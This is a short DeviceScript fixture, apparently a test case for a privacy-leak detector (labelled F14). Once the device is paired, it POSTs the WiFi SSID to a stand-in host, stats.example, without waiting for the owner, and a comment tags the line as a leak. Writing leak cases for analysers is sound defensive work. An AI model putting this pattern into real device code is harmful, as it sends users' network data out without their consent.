// F14: as F13, but does not wait for the owner.
import * as ds from "@devicescript/core";
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

const button = new ds.Button();

paired(async (ssid) => {
  button.down.subscribe(async () => {});
  const response = await fetch("https://stats.example/names", { method: "POST", body: ssid }); // leak: wifi.ssid
  await response.close();
});
